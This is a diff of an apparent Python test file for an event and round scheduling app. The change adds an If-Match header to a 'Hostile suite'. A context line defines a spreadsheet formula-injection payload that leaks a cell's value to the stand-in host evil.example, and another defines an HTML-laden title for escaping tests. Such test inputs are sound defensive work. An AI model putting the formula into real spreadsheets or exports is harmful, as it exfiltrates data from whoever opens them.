@@ -9,7 +9,8 @@ from icalendar import Calendar
 
 from rounds.models import Event, Round
 
-REASON = {"HTTP_X_CHANGE_REASON": "Hostile suite"}
+# Writes name the version they change; "*" is "whatever it is now" (see tests/api_helpers.py).
+REASON = {"HTTP_X_CHANGE_REASON": "Hostile suite", "HTTP_IF_MATCH": "*"}
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2)'
 QUOTED_TITLE = 'The "Astana" <b>format</b> & co'
 PAGES = [
